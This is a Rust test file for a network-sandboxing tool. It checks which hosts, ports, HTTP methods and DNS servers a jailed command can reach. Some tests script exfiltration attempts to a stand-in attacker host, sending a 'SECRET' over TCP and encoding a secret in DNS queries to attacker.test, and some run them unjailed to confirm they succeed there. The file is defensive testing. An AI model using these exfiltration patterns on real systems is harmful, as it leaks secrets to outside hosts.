//! What a jailed command reaches, and what not.

use test_support::bed::{Bed, unique};
use test_support::command::wait_for;
use test_support::hosts::{ALLOWED, ATTACKER, DENIED};

use crate::jail::{CALLERS, ROOT, USER};

pub(crate) const TESTS: &[test_support::harness::Test] = &[
    ("an_allowed_name_is_reached_and_no_other", names),
    ("methods_and_paths_decide_in_http", requests),
    ("methods_and_paths_decide_within_https", within_tls),
    ("addresses_of_both_families_are_denied", addresses),
    ("a_closed_port_is_closed", closed),
    ("what_no_rule_names_is_refused_at_once", refused),
    ("udp_is_relayed_where_a_rule_allows_it", udp),
    ("every_name_server_is_the_filters", name_servers),
    (
        "the_jails_own_servers_work_and_the_hosts_are_not_there",
        local,
    ),
    ("ports_of_the_host_are_there_that_were_named", host_ports),
    ("published_ports_lead_to_the_commands_servers", published),
    ("jails_side_by_side_are_strangers", side_by_side),
    ("observe_lets_pass_and_records", observe),
];

fn names(bed: &Bed) {
    for caller in CALLERS {
        let script = "curl -sS -m 5 http://allowed.test/; \
             curl -sS -m 5 --cacert /etc/little-internet.pem https://allowed.test/; \
             curl -sS -m 5 http://denied.test/ 2>&1; \
             curl -s -m 5 -o /dev/null -w '%{http_code}' --resolve denied.test:80:198.51.100.20 http://denied.test/";
        let jailed = caller.run(bed, &["--allow", "domain=allowed.test"], script);
        let said = &jailed.answer.stdout;
        assert_eq!(
            said.matches("allowed.test").count(),
            2,
            "{}: {jailed:?}",
            caller.name
        );
        assert!(
            said.contains("Could not resolve host: denied.test"),
            "{jailed:?}"
        );
        assert!(said.ends_with("403"), "{jailed:?}");
        for protocol in ["http", "https"] {
            jailed.must_record("allow", |record| {
                record["protocol"] == protocol && record["name"] == "allowed.test"
            });
        }
        jailed.must_record("deny", |record| {
            record["protocol"] == "http" && record["name"] == "denied.test"
        });
        let unjailed = caller.run_unjailed(bed, script);
        let reached = unjailed.stdout.contains("I am denied.test");
        assert!(reached && unjailed.stdout.ends_with("200"), "{unjailed:?}");
    }
}

fn requests(bed: &Bed) {
    let script = "for request in '-X GET http://allowed.test/open/x' '-X POST http://allowed.test/open/x' \
         '-X GET http://allowed.test/shut'; do curl -s -m 5 -o /dev/null -w '%{http_code} ' $request; done";
    let rule = "domain=allowed.test port=80 method=GET path=/open/*";
    let jailed = USER.run(bed, &["--allow", rule], script);
    assert_eq!(jailed.answer.stdout, "200 403 403 ", "{jailed:?}");
}

fn within_tls(bed: &Bed) {
    // The little internet's authority is the caller's own choice, which the jail's doesn't replace.
    let script = "echo $SSL_CERT_FILE; ls $(dirname $SSL_CERT_FILE) >&2; for request in '-X GET https://allowed.test/open/x' \
         '-X POST https://allowed.test/open/x' 'https://denied.test/open/x'; do \
         curl -s -m 5 -o /dev/null -w '%{http_code} ' $request; done; \
         python3 -c 'import urllib.request; print(urllib.request.urlopen(\"https://allowed.test/open/x\").status)'";
    let rule = "domain=allowed.test method=GET path=/open/*";
    for caller in CALLERS {
        let log = format!("/tmp/{}.jsonl", unique("jail"));
        let line = caller.line(&["--log", &log, "--allow", rule], script);
        let line = [
            &["env", "SSL_CERT_FILE=/etc/little-internet.pem"][..],
            &line,
        ]
        .concat();
        let answer = bed.exec(&line);
        let (path, said) = answer.stdout.split_once('\n').unwrap();
        assert_eq!(said, "200 403 000 200\n", "{}: {answer:?}", caller.name);
        // Nothing of it is left.
        let folder = std::path::Path::new(path).parent().unwrap();
        assert!(folder.starts_with("/tmp"), "{answer:?}");
        assert!(!bed.inside(folder.to_str().unwrap()).exists(), "{answer:?}");
    }
}

fn addresses(bed: &Bed) {
    // No other test goes there.
    let targets = [DENIED, ATTACKER]
        .map(|host| [format!("{}:8080", host.v4), format!("[{}]:8080", host.v6)])
        .concat();
    for caller in CALLERS {
        let script = format!(
            "for to in {} {}:80 '[{}]:80'; do attacker send tcp \"$to\" SECRET; done 2>&1",
            targets.join(" "),
            DENIED.v4,
            DENIED.v6
        );
        let before = bed.internet_log().len();
        let jailed = caller.run(bed, &["--allow", "domain=allowed.test"], &script);
        let denied = jailed
            .records
            .iter()
            .filter(|record| record["verdict"] == "deny");
        assert_eq!(denied.count(), 6, "{}: {jailed:?}", caller.name);
        assert_eq!(jailed.records.len(), 6, "{}: {jailed:?}", caller.name);
        // The weapon is loaded: and these are the only ones that arrive.
        caller.run_unjailed(bed, &script);
        for target in &targets {
            let sign = format!("-> {target} connected");
            let count = || bed.internet_log()[before..].matches(&sign).count();
            wait_for("the unjailed one's connection", || count() > 0);
            assert_eq!(count(), 1, "{}: {target}", caller.name);
        }
    }
}

fn closed(bed: &Bed) {
    let rule = format!("cidr={}/32 port=4", ALLOWED.v4);
    let script = format!("attacker knock 3 {}:4", ALLOWED.v4);
    let jailed = USER.run(bed, &["--allow", &rule], &script);
    assert!(
        jailed.answer.stdout.contains(" ECONNREFUSED "),
        "{jailed:?}"
    );
    jailed.must_record("allow", |record| record["ended"] == "unreachable");
}

fn refused(bed: &Bed) {
    let script = format!(
        "attacker knock 3 {0}:4 '[{1}]:4'; attacker probe udp {0}:9999; attacker probe udp '[{1}]:9999'",
        ALLOWED.v4, ALLOWED.v6
    );
    let jailed = USER.run(bed, &["--allow", "domain=allowed.test"], &script);
    assert_eq!(
        jailed.answer.stdout.matches(" ECONNREFUSED ").count(),
        2,
        "{jailed:?}"
    );
    assert!(!jailed.answer.stdout.contains("timeout"), "{jailed:?}");
    let denied = jailed
        .records
        .iter()
        .filter(|record| record["verdict"] == "deny");
    assert_eq!(denied.count(), 4, "{jailed:?}");
}

fn udp(bed: &Bed) {
    for caller in CALLERS {
        let rules = [
            format!("proto=udp cidr={}/32 port=9999", ALLOWED.v4),
            format!("proto=udp cidr={}/128 port=9999", ALLOWED.v6),
        ];
        let options = ["--allow", &rules[0], "--allow", &rules[1]];
        let script = format!(
            "attacker probe udp {}:9999; attacker probe udp '[{}]:9999'; attacker probe udp {}:9999",
            ALLOWED.v4, ALLOWED.v6, DENIED.v4
        );
        let jailed = caller.run(bed, &options, &script);
        let outcomes: Vec<&str> = jailed.answer.stdout.lines().collect();
        let [v4, v6, denied] = outcomes.as_slice() else {
            panic!("{jailed:?}");
        };
        assert!(
            v4.starts_with("answered") && v6.starts_with("answered"),
            "{jailed:?}"
        );
        let is_told = !denied.starts_with("timeout");
        assert!(!denied.starts_with("answered") && is_told, "{jailed:?}");
    }
}

fn name_servers(bed: &Bed) {
    for caller in CALLERS {
        let secret = unique("secret");
        let script = format!(
            "for server in 127.0.0.53 127.0.0.11 {0} '[{1}]' '[::1]'; do for how in udp tcp; do \
             attacker dns $how $server:53 allowed.test; attacker dns $how $server:53 {secret}.attacker.test; done; done",
            ATTACKER.v4, ATTACKER.v6
        );
        let before = bed.internet_log().len();
        let jailed = caller.run(bed, &["--allow", "domain=allowed.test"], &script);
        let answers: Vec<String> = jailed
            .answer
            .stdout
            .lines()
            .map(|line| line.split(' ').next().unwrap_or_default().to_lowercase())
            .collect();
        assert_eq!(answers.len(), 20, "{}: {jailed:?}", caller.name);
        for pair in answers.chunks(2) {
            assert_eq!(pair, ["noerror", "nxdomain"], "{}: {jailed:?}", caller.name);
        }
        let arrived = bed.internet_log()[before..].to_owned();
        assert!(!arrived.contains(&secret), "{arrived}");
    }
}

fn local(bed: &Bed) {
    let script = "python3 -m http.server 8000 --bind 127.0.0.1 -d /usr/share >/dev/null 2>&1 & \
         for i in $(seq 100); do curl -s -o /dev/null http://127.0.0.1:8000/ && break; sleep 0.05; done; \
         curl -s -o /dev/null -w '%{http_code} ' http://127.0.0.1:8000/; \
         attacker knock 3 127.0.0.1:7777 '[::1]:7777'";
    let _server = Server::start(bed, "7777");
    for caller in CALLERS {
        let jailed = caller.run(bed, &[], script);
        assert!(
            jailed.answer.stdout.starts_with("200 "),
            "{}: {jailed:?}",
            caller.name
        );
        assert_eq!(
            jailed.answer.stdout.matches("ECONNREFUSED").count(),
            2,
            "{jailed:?}"
        );
        assert_eq!(jailed.records.len(), 0, "{jailed:?}");
    }
}

/// A web server in the bed, outside of any jail, with its directory's listing.
struct Server(std::process::Child);

impl Server {
    fn start(bed: &Bed, port: &str) -> Self {
        let first = bed.first().to_string();
        let server = std::process::Command::new("nsenter")
            .args(["--target", &first, "--mount", "--net", "--"])
            .args(["python3", "-m", "http.server", port, "--bind", "127.0.0.1"])
            .args(["--directory", "/etc/boundary"])
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let knock = format!("attacker knock 3 127.0.0.1:{port}");
        wait_for("a server of the host's", || {
            ROOT.run_unjailed(bed, &knock).stdout.contains("connected")
        });
        Self(server)
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        self.0.kill().ok();
        self.0.wait().ok();
    }
}

fn host_ports(bed: &Bed) {
    let _servers = [Server::start(bed, "7801"), Server::start(bed, "7802")];
    let script = "curl -s http://127.0.0.1:7801/; attacker knock 3 127.0.0.1:7802";
    for caller in CALLERS {
        let jailed = caller.run(bed, &["--allow-host-port", "7801"], script);
        let said = &jailed.answer.stdout;
        assert!(said.contains("policies/"), "{}: {jailed:?}", caller.name);
        assert!(said.contains("ECONNREFUSED"), "{}: {jailed:?}", caller.name);
    }
}

fn published(bed: &Bed) {
    for (number, caller) in CALLERS.into_iter().enumerate() {
        let (outside, stop) = (7810 + number, format!("/tmp/{}", unique("stop")));
        let script = format!(
            "cd /etc/boundary && python3 -m http.server 3000 --bind 127.0.0.1 >/dev/null 2>&1 & \
             while [ ! -e {stop} ]; do sleep 0.1; done"
        );
        let ports = format!("{outside}:3000");
        std::thread::scope(|scope| {
            let jail = scope.spawn(|| caller.run(bed, &["--publish", &ports], &script));
            let ask = format!("curl -s http://127.0.0.1:{outside}/");
            wait_for("the command's server", || {
                ROOT.run_unjailed(bed, &ask).stdout.contains("policies/")
            });
            // Nobody else has that port.
            let second = bed.exec(&caller.line(&["--publish", &ports], "echo RAN"));
            assert_eq!((second.code, second.stdout.as_str()), (1, ""), "{second:?}");
            assert!(second.stderr.contains("can't publish"), "{second:?}");
            std::fs::write(bed.inside(&stop), "").unwrap();
            let jailed = jail.join().unwrap();
            assert_eq!(jailed.answer.code, 0, "{}: {jailed:?}", caller.name);
        });
    }
}

fn side_by_side(bed: &Bed) {
    let script = "python3 -m http.server 8000 --bind 127.0.0.1 >/dev/null 2>&1 & \
         for i in $(seq 100); do curl -s -o /dev/null http://127.0.0.1:8000/ && break; sleep 0.05; done; \
         curl -s -m 5 -o /dev/null -w '%{http_code} ' http://allowed.test/; \
         curl -s -m 5 -o /dev/null -w '%{http_code}' --resolve denied.test:80:198.51.100.20 http://denied.test/";
    std::thread::scope(|scope| {
        let one = scope.spawn(|| USER.run(bed, &["--allow", "domain=allowed.test"], script));
        let other = scope.spawn(|| USER.run(bed, &["--allow", "domain=denied.test"], script));
        assert_eq!(one.join().unwrap().answer.stdout, "200 403");
        assert_eq!(other.join().unwrap().answer.stdout, "000 200");
    });
}

fn observe(bed: &Bed) {
    let script = "curl -s -m 5 -o /dev/null -w '%{http_code}' http://denied.test/";
    let jailed = USER.run(bed, &["--mode", "observe"], script);
    assert_eq!(jailed.answer.stdout, "200", "{jailed:?}");
    jailed.must_record("allow", |record| {
        let rule = record["rule"].as_str().unwrap_or_default();
        record["protocol"] == "http" && rule.starts_with("would deny: ")
    });
}
